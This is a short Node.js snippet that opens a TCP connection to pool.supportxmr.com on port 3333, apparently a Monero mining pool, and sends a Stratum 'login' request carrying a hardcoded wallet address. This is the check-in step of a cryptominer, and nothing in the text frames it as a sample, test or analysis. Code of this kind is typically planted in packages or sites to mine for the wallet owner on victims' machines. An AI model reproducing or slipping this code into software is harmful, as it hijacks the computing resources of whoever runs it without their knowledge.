const net = require('net');
const c = net.connect(3333, 'pool.supportxmr.com');
c.write(JSON.stringify({ id: 1, method: 'login', params: { login: '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD', pass: 'x' } }) + '\n');
